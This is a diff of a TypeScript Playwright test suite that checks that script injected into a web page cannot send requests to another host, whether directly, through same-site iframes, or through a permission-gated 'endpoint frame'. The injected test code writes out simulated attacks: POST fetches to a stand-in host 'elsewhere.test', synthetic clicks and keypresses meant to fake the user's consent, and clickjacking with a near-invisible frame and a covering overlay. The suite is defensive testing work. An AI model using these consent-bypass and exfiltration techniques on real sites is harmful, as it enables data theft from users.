@@ -1,4 +1,4 @@
-/** What a script that got into a page can reach: no other host by itself, and through the endpoint frame any host. */
+/** What a script that got into a page can reach: no other host, unless the reader allows it in the endpoint frame. */
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Page } from 'playwright-core'
@@ -7,6 +7,7 @@ import { openPage } from './harness.ts'
 import { GUIDE, HOME, isAwake, METHOD } from './shell-pages.ts'
 
 let server: Server
+/** A name of another host, because pages may call the reader's own machine. */
 let host = ''
 const received: string[] = []
 
@@ -14,6 +15,7 @@ beforeAll(async () => {
   server = createServer((request, response) => {
     received.push(request.url ?? '')
     response.setHeader('access-control-allow-origin', '*')
+    response.setHeader('access-control-allow-headers', '*')
     response.end('{}')
   })
   server.on('upgrade', (request, socket) => {
@@ -21,7 +23,7 @@ beforeAll(async () => {
     socket.destroy()
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-  host = `127.0.0.1:${(server.address() as AddressInfo).port}`
+  host = `elsewhere.test:${(server.address() as AddressInfo).port}`
 })
 afterAll(() => {
   server.closeAllConnections()
@@ -75,26 +77,110 @@ describe('a script in the page reaches no other host by itself', () => {
   })
 })
 
-/**
- * Documents of this site without a policy of their own may connect to any host, as the endpoint frame may. The threat
- * model lists them. This test fails once they are closed, so that the threat model then says so.
- */
-const OPEN = ['/connect', '/robots.txt']
+/** A document of every kind, the endpoint frame among them, and a path without a document. */
+const FILES = [
+  '/connect',
+  '/connect/',
+  '/robots.txt',
+  '/openrpc.json',
+  '/favicon.svg',
+  '/sw.js',
+  '/faq',
+  '/faq.md',
+  '/gone',
+]
 
-describe('through a frame of this site it reaches any host, as the threat model says', () => {
-  test.each(OPEN)('%s', async (frame) => {
+describe('through a frame of this site it reaches no other host, while it loads or later', () => {
+  test.each(FILES)('%s', async (file) => {
     const page = await openPage(GUIDE, { allow: BLOCKED })
     await isAwake(page)
     await inject(
       page,
       `async (host) => {
-        const frame = Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(frame)} })
-        const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
+        const frame = Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(file)} })
+        const attempt = (name) => {
+          try { frame.contentWindow.fetch('http://' + host + '/' + name, { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => 0) } catch {}
+        }
+        let isLoaded = false
+        const loaded = new Promise((resolve) => frame.addEventListener('load', resolve)).then(() => { isLoaded = true })
         document.body.append(frame)
+        const start = performance.now()
+        const { port1, port2 } = new MessageChannel()
+        port2.onmessage = () => { attempt('early'); if (!isLoaded && performance.now() - start < 5000) port1.postMessage(0) }
+        port1.postMessage(0)
         await loaded
-        await frame.contentWindow.fetch('http://' + host + '/through', { mode: 'no-cors', method: 'POST', body: 'x' })
+        attempt('through')
+        await new Promise((resolve) => setTimeout(resolve, 500))
       }`,
     )
-    expect(received).toEqual(['/through'])
+    expect(received).toEqual([])
+  })
+})
+
+describe('through the channel of the endpoint frame', () => {
+  /** The script opens the frame by itself, shows it as the page would, and asks for a call. */
+  const CHANNEL = `async (host) => {
+    const frame = Object.assign(document.createElement('iframe'), { id: 'own', src: '/connect' })
+    frame.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;z-index:9999;border:0'
+    document.body.append(frame)
+    await new Promise((resolve) => frame.addEventListener('load', resolve))
+    const { port1, port2 } = new MessageChannel()
+    port1.onmessage = ({ data }) => { if (data.kind === 'asks') port1.postMessage({ kind: 'shown', theme: 'light' }) }
+    frame.contentWindow.postMessage('open-frame', '*', [port2])
+    window.callThrough = (id, url) => port1.postMessage({ kind: 'call', id, call: { url, headers: {}, body: '{}', timeoutMs: 5000 } })
+    window.callThrough(1, 'http://' + host + '/channel')
+    await new Promise((resolve) => setTimeout(resolve, 700))
+    const attempt = (way) => { try { way() } catch {} }
+    attempt(() => frame.contentDocument.querySelector('button').click())
+    attempt(() => frame.contentWindow.document.querySelector('button').click())
+    attempt(() => frame.contentWindow.eval("document.querySelector('button').click()"))
+    for (const type of ['pointerdown', 'mousedown', 'click'])
+      frame.dispatchEvent(new MouseEvent(type, { bubbles: true, clientX: 60, clientY: 200 }))
+    frame.contentWindow.focus()
+    for (const key of ['Tab', 'Enter', ' ']) frame.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }))
+    frame.contentWindow.postMessage({ isAllowed: true }, '*')
+    await new Promise((resolve) => setTimeout(resolve, 500))
+  }`
+
+  test('it reaches no host before the reader allows it in the frame, and then that host alone', async () => {
+    const page = await openPage(GUIDE, { allow: BLOCKED })
+    await isAwake(page)
+    await page.locator('#page h1').click()
+    await inject(page, CHANNEL)
+    expect(received).toEqual([])
+    const frame = page.frameLocator('#own')
+    await frame.getByRole('button', { name: `Allow requests to ${host}` }).click()
+    await expect.poll(() => received).toContain('/channel')
+    const before = received.length
+    await inject(
+      page,
+      `(host) => window.callThrough(2, 'http://' + host.replace('elsewhere.test', 'other.elsewhere.test') + '/other')`,
+    )
+    await frame.getByRole('button', { name: `Allow requests to other.${host}` }).waitFor()
+    expect(received.slice(before)).toEqual([])
+  })
+
+  test('it gets no press from a reader who cannot see the frame', async () => {
+    const page = await openPage(GUIDE, { allow: BLOCKED })
+    await isAwake(page)
+    await inject(page, CHANNEL)
+    const button = page.frameLocator('#own').getByRole('button', { name: 'Allow' })
+    const { x, y } = (await button.boundingBox()) ?? { x: 0, y: 0 }
+    await inject(page, `() => { document.getElementById('own').style.opacity = '0.01' }`)
+    await page.waitForTimeout(500)
+    await page.mouse.click(x + 10, y + 10)
+    await inject(
+      page,
+      `() => {
+        document.getElementById('own').style.opacity = '1'
+        const cover = document.createElement('div')
+        cover.style.cssText = 'position:fixed;inset:0;z-index:99999;background:white;pointer-events:none'
+        document.body.append(cover)
+      }`,
+    )
+    await page.waitForTimeout(500)
+    await page.mouse.click(x + 10, y + 10)
+    await page.waitForTimeout(500)
+    expect(received).toEqual([])
   })
 })
